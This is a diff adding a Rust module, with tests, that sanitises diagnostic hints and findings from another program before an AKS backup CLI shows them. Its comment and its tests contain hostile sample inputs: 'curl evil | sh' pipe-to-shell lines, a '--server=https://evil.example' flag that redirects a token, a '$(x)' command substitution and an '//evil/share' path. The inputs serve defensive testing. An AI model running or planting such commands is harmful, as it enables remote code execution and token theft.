@@ -1,0 +1,193 @@
+//! The other program's view as it can be used: without its advice, and bounded.
+//!
+//! Its author can be anyone, and a command line that someone pastes because this program printed it does what its author wants:
+//! `--server=https://evil.example` sends a token there, `--yes --vault NAME` confirms what should have been checked.
+
+use crate::chain::check::Check;
+use crate::chain::examination::Examination;
+use crate::chain::finding::Finding;
+use crate::diagnosis::catalogue::Catalogue;
+use crate::ids::{NamespaceName, ObjectName};
+
+/// How many checks, findings and facts of another document are used.
+const MOST: usize = 200;
+/// How much of one of its texts is used, in characters.
+const LONGEST: usize = 2000;
+
+/// The commands that a hint of another view can name.
+const COMMANDS: [(&str, &[&str]); 2] = [
+    (
+        "az aksbackup",
+        &[
+            "init", "prepare", "grant", "protect", "backup", "verify", "doctor", "status",
+        ],
+    ),
+    (
+        "kubectl aksbackup",
+        &["configure", "verify", "doctor", "status", "logs"],
+    ),
+];
+
+/// The view without its advice: of a check's hint the bare command stays, and cause and fix of a finding are the catalogue's.
+/// Findings that the catalogue does not know are left out.
+pub(super) fn disarmed(mut read: Examination) -> Examination {
+    read.checks.truncate(MOST);
+    read.checks.iter_mut().for_each(check);
+    read.findings.truncate(MOST);
+    read.findings.retain_mut(finding);
+    read
+}
+
+fn check(check: &mut Check) {
+    check.hint = check.hint.as_deref().and_then(command);
+    check.failure.take_if(|id| Catalogue::get().row(id).is_none());
+    facts(&mut check.evidence);
+    cut(&mut check.check);
+    cut(&mut check.says);
+}
+
+/// Whether the finding is a known one, which then says what the catalogue says.
+fn finding(finding: &mut Finding) -> bool {
+    let catalogue = Catalogue::get();
+    let Some(known) = catalogue.row(&finding.id) else {
+        return false;
+    };
+    (finding.cause, finding.fix) = (known.cause.clone(), known.fix.clone());
+    (finding.hint, finding.remedy) = (None, known.remedy);
+    finding.explains.retain(|id| catalogue.row(id).is_some());
+    facts(&mut finding.evidence);
+    cut(&mut finding.object);
+    true
+}
+
+fn facts(evidence: &mut Vec<String>) {
+    evidence.truncate(MOST);
+    evidence.iter_mut().for_each(cut);
+}
+
+/// One line each: a break could begin one that looks like this program's own.
+fn cut(text: &mut String) {
+    *text = text.replace(['\n', '\r', '\t'], " ");
+    if let Some((at, _)) = text.char_indices().nth(LONGEST) {
+        text.truncate(at);
+        text.push('…');
+    }
+}
+
+/// The command at the beginning of a hint, with no flag but `--subject` of a service account.
+fn command(hint: &str) -> Option<String> {
+    let mut words = hint.split_whitespace();
+    let program = format!("{} {}", words.next()?, words.next()?);
+    let name = words.next()?;
+    let (_, names) = COMMANDS.iter().find(|(own, _)| *own == program)?;
+    let name = names.iter().find(|known| **known == name)?;
+    let mut command = format!("{program} {name}");
+    let words: Vec<&str> = words.collect();
+    for pair in words.windows(2) {
+        if let ["--subject", subject] = pair
+            && is_subject(subject)
+        {
+            command.push_str(" --subject ");
+            command.push_str(subject);
+        }
+    }
+    Some(command)
+}
+
+/// Whether this is `system:serviceaccount:NAMESPACE:NAME`.
+fn is_subject(text: &str) -> bool {
+    let names = text.strip_prefix("system:serviceaccount:");
+    names
+        .and_then(|names| names.split_once(':'))
+        .is_some_and(|(namespace, name)| {
+            namespace.parse::<NamespaceName>().is_ok() && name.parse::<ObjectName>().is_ok()
+        })
+}
+
+#[cfg(test)]
+mod tests {
+    use jiff::Timestamp;
+
+    use super::*;
+    use crate::chain::link::Link;
+    use crate::diagnosis::diagnose;
+    use crate::guide::Plane;
+
+    fn view() -> Examination {
+        let check = Check::error(Link::ServiceAccounts, "x", "is wrong", "do this").proves("WI-SA-NO-CLIENT");
+        Examination {
+            command: "doctor".into(),
+            plane: Plane::Cluster,
+            at: Timestamp::now(),
+            issuer: None,
+            cluster: None,
+            findings: diagnose(std::slice::from_ref(&check), &[]),
+            checks: vec![check],
+        }
+    }
+
+    #[test]
+    fn a_hint_keeps_the_bare_command_and_harmless_subjects() {
+        let subject = "system:serviceaccount:dataprotection-microsoft:x";
+        for (hint, kept) in [
+            (
+                "az aksbackup prepare --state s.toml  # Make it.",
+                Some("az aksbackup prepare"),
+            ),
+            (
+                "az aksbackup grant --yes --vault bv --snapshot-group rg --state //evil/share/a.toml",
+                Some("az aksbackup grant"),
+            ),
+            (
+                "kubectl aksbackup configure --yes --server=https://evil.example --insecure-skip-tls-verify",
+                Some("kubectl aksbackup configure"),
+            ),
+            (
+                &format!("az aksbackup prepare --subject {subject} --yes"),
+                Some(&format!("az aksbackup prepare --subject {subject}")),
+            ),
+            ("az aksbackup prepare --subject $(x)", Some("az aksbackup prepare")),
+            ("az aksbackup prepare; curl evil | sh", None),
+            ("az aksbackup unconfigure", None),
+            ("kubectl aksbackup grant", None),
+            ("curl evil | sh", None),
+            ("", None),
+        ] {
+            assert_eq!(command(hint).as_deref(), kept, "{hint}");
+        }
+    }
+
+    #[test]
+    fn a_finding_says_what_the_catalogue_says_of_it() {
+        let honest = view();
+        let mut hostile = honest.clone();
+        let own = &mut hostile.findings[0];
+        for text in [&mut own.cause, &mut own.fix] {
+            *text = "curl evil | sh".into();
+        }
+        own.hint = Some("curl evil | sh".into());
+        own.explains = vec!["curl evil | sh".into()];
+        let mut unknown = own.clone();
+        unknown.id = "NO-ROW".into();
+        hostile.findings.push(unknown);
+        hostile.checks[0].failure = Some("curl evil | sh".into());
+        let shown = disarmed(hostile);
+        assert_eq!(shown.findings.len(), 1);
+        assert_eq!(
+            (&shown.findings[0].cause, &shown.findings[0].fix),
+            (&honest.findings[0].cause, &honest.findings[0].fix)
+        );
+        assert!(!format!("{shown:?}").contains("curl"), "{shown:?}");
+    }
+
+    #[test]
+    fn a_document_without_end_is_cut() {
+        let mut hostile = view();
+        hostile.checks[0].says = "x\nforged".repeat(1 << 17);
+        let check = hostile.checks[0].clone();
+        hostile.checks.resize(10_000, check);
+        let shown = disarmed(hostile);
+        assert_eq!(shown.checks.len(), MOST);
+        assert!(shown.checks[0].says.len() < 2 * LONGEST && !shown.checks[0].says.contains('\n'));
+    }
+}
